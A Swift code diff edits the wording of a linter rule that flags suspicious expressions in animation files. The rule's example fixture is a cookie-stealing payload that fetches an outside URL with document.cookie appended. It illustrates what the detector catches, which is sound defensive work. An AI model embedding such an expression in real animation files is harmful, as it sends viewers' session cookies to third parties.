@@ -9,13 +9,14 @@ extension Rule {
       RulePage(
         title: "Suspicious expression",
         meaning: """
-          The expression uses a name that browsers define and After Effects does not: to access \
-          the page or the network, or to run strings as code. A backslash outside a string hides \
-          such names.
+          The expression uses a name that browsers define but After Effects does not. Such names \
+          give access to the page or the network, or run strings as code. A backslash outside a \
+          string can hide such a name.
           """,
-        effect: "The expression can read the contents of the page and send them to others.",
+        effect: "The expression can read the contents of the page and send them to third parties.",
         wayOut: """
-          Do not play the file. Ask its author about the purpose of the expression, or delete it.
+          Do not play the file. Ask its author about the purpose of the expression, or delete the \
+          expression.
           """)),
     example: .layer(
       #""ks": {"r": {"a": 0, "k": 0, "x": "fetch('https://example.com/?' + document.cookie)"}}"#),
@@ -37,7 +38,7 @@ extension RuleRun {
   fileprivate func reportSuspicious(_ expression: String, at source: SourceID) {
     var words = ScriptWords(expression)
     guard let word = words.firstSuspicious() else { return }
-    let thing = word == "\\" ? "a backslash outside of a string" : "'\(word)'"
+    let thing = word == "\\" ? "a backslash outside a string" : "'\(word)'"
     report("the expression uses \(thing), which animations do not require", at: source)
   }
 }
